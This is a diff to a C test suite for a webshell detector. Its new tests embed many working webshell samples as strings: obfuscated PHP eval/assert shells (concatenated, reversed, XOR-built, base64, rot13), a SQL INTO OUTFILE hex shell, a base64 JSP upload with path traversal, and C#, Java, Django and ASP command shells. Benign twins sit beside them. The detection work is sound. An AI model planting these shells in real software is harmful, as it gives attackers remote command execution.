@@ -1425,6 +1425,99 @@ test_webshell_shapes(void)
                     "webshell", NULL) >= 1);
 }
 
+/* Review 12: shells whose sink or input passes through variables (M3),
+ * hidden in encoded literals or written without letters (M6), and non-PHP
+ * shells whose input is no request.X (M7); each with a clean twin. */
+static void
+test_webshell_review12(void)
+{
+#define WS_FOUND(doc) T_OK(count_rule(doc, "webshell", NULL) >= 1)
+#define WS_CLEAN(doc) T_EQ_INT(count_rule(doc, "webshell", NULL), 0)
+    /* M3: a sink name folded from pieces, called on request input */
+    WS_FOUND("```php\n<?php\n$a = 'as'.'se'.'rt';\n$b = $_REQUEST['x'];\n$a($b);\n```\n");
+    WS_CLEAN("```php\n<?php\n$a = 'ren'.'der';\n$b = $_REQUEST['x'];\n$a($b);\n```\n");
+    WS_FOUND("<?php $a = $_POST['x']; $f = 'assert'; $f($a); ?>\n");
+    WS_FOUND("```php\n<?php\n$f = strrev('tressa');\n$f($_GET['x']);\n```\n");
+    WS_FOUND("```php\n<?php\n$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);\n"
+             "$c = $_COOKIE['c'];\n$f($c);\n```\n");
+    /* M3: headers and $_SERVER['HTTP_*'] as input */
+    WS_FOUND("```php\n<?php\n$h = getallheaders();\n$f = $h['X-Fn'];\n$f($h['X-Arg']);\n```\n");
+    WS_CLEAN("```php\n<?php\n$h = getallheaders();\n$t = $h['X-Token'];\ncheck_token($t);\n```\n");
+    WS_FOUND("<?php $s = $_SERVER['HTTP_X_CMD']; system($s); ?>\n");
+    WS_CLEAN(
+        "```php\n<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\necho htmlspecialchars($ua);\n```\n");
+    /* M3: parse_str() spills the query into variables */
+    WS_FOUND("```php\n<?php\nparse_str($_SERVER['QUERY_STRING']);\n$x($y);\n```\n");
+    WS_CLEAN("```php\n<?php\nparse_str($_SERVER['QUERY_STRING'], $q);\necho $q['a'];\n```\n");
+    /* M6: a packed blob run through a decoder chain; one base64_decode is
+     * judged by what it decodes to */
+    WS_FOUND("<?php eval(gzinflate(base64_decode('S03OyFdQyclMSs1J0UgpzdWMjTZXsFa0BgA=')));?>\n");
+    WS_CLEAN("```php\n<?php eval(base64_decode('ZWNobyAiaGVsbG8gd29ybGQiOw=='));\n```\n");
+    /* M6: a hex shell SQL writes to a file; hex of a harmless file */
+    WS_FOUND("select 0x3c3f70687020406576616c28245f504f53545b615d293b3f3e into outfile "
+             "'/var/www/html/x.php'\n");
+    WS_CLEAN("select 0x3c3f786d6c2076657273696f6e3d22312e30223f3e into outfile '/tmp/a.xml'\n");
+    WS_FOUND("```php\n<?php eval(str_rot13('@riny($_CBFG[p]);'));\n```\n");
+    /* M6: base64 JSP in an upload body */
+    WS_FOUND(
+        "{\"fileName\":\"../../webapps/ROOT/x.jsp\",\"content\":\"PCVAcGFnZSBpbXBvcnQ9ImphdmEudXRp"
+        "bC4qIiU+PCVSdW50aW1lLmdldFJ1bnRpbWUoKS5leGVjKHJlcXVlc3QuZ2V0UGFyYW1ldGVyKCJjIikpOyU+\"}"
+        "\n");
+    /* M6: letterless shells; XOR in ordinary code */
+    WS_FOUND("```php\n<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`')."
+             "('%14'^'`'); // assert\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n"
+             "$___=$$__;\n$_($___[_]);\n```\n");
+    WS_FOUND("<?php $_=\"{\"; $_=($_^\"<\").($_^\">;\").($_^\"/\"); ${$_}[_](${$_}[__]); ?>\n");
+    WS_FOUND("```php\n<?php\n$_=\"{{{{\"^\"?<>/\";${$_}[_](${$_}[__]);\n```\n");
+    WS_CLEAN("```php\n<?php\n$mask = 'ab' ^ 'cd';\necho bin2hex($mask);\n```\n");
+    /* M7: an asmx web method's parameter handed to cmd /c; a fixed program */
+    WS_FOUND("```csharp\n<%@ WebService Language=\"C#\" Class=\"Svc\" %>\n"
+             "public class Svc : WebService {\n  [WebMethod] public string Run(string c) {\n"
+             "    var p = System.Diagnostics.Process.Start(\"cmd\", \"/c \" + c);\n"
+             "    return p.StandardOutput.ReadToEnd();\n  }\n}\n```\n");
+    WS_CLEAN(
+        "```csharp\n[WebMethod] public string Ping(string host) {\n"
+        "  var p = Process.Start(\"ping.exe\", \"-n 1 \" + host);\n  return \"ok\";\n}\n```\n");
+    WS_FOUND(
+        "```java\n@RequestMapping(\"/run\")\npublic String run(@RequestParam String cmd) "
+        "throws Exception {\n    Process p = Runtime.getRuntime().exec(cmd);\n    return \"ok\";\n"
+        "}\n```\n");
+    /* M7: Django, classic ASP, a callback handed 'assert' */
+    WS_FOUND("```python\ndef health(request):\n    return HttpResponse(str(eval(request.POST.get("
+             "\"expr\"))))\n```\n");
+    WS_FOUND(
+        "<% Set o = Server.CreateObject(\"WScript.Shell\") : Response.Write o.Exec(\"cmd /c \" & "
+        "Request(\"c\")).StdOut.ReadAll %>\n");
+    WS_CLEAN("```asp\n<% Set o = Server.CreateObject(\"WScript.Shell\") : Response.Write "
+             "o.Exec(\"ping -n 1 \" & Request(\"h\")).StdOut.ReadAll %>\n```\n");
+    WS_CLEAN("```asp\n<% Set o = Server.CreateObject(\"WScript.Shell\") : o.Run \"notepad.exe\" "
+             "%>\n```\n");
+    WS_FOUND("<?php array_walk($arr=array($_POST['x']=>1), 'assert'); ?>\n");
+    WS_CLEAN("```php\n<?php array_walk($_POST, 'trim'); ?>\n```\n");
+#undef WS_FOUND
+#undef WS_CLEAN
+}
+
+/* Review 12 F3: an incident report's cleanup, stated as done, is a remediation. */
+static void
+test_incident_cleanup(void)
+{
+    static const char head[] =
+        "# 应急响应报告\n\n在 /var/www/html/uploads/ 下发现后门文件 x.php，内容如下："
+        "\n\n```php\n<?php @eval($_POST['pass']);?>\n```\n\n";
+    char doc[512];
+
+    snprintf(doc, sizeof doc, "%s已删除该文件并修补上传接口。\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 0);
+    snprintf(doc, sizeof doc, "%sWe deleted the file and patched the upload handler.\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 0);
+    /* removed but nothing fixed, or the fix only planned */
+    snprintf(doc, sizeof doc, "%s攻击者随后已删除该文件，清理了日志。\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 1);
+    snprintf(doc, sizeof doc, "%s已删除该文件，上传接口尚未修补。\n", head);
+    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 1);
+}
+
 /*
  * A reproducer's file arguments are no hosts: a bare dotted word is a target
  * only with a known top-level domain, a port or a scheme, and a
@@ -1752,6 +1845,8 @@ main(void)
     T_RUN(test_related_tail);
     T_RUN(test_range_sweep_and_list_prose);
     T_RUN(test_webshell_shapes);
+    T_RUN(test_webshell_review12);
+    T_RUN(test_incident_cleanup);
     T_RUN(test_file_args);
     T_RUN(test_perl_handle_reads);
     T_RUN(test_count_trend);
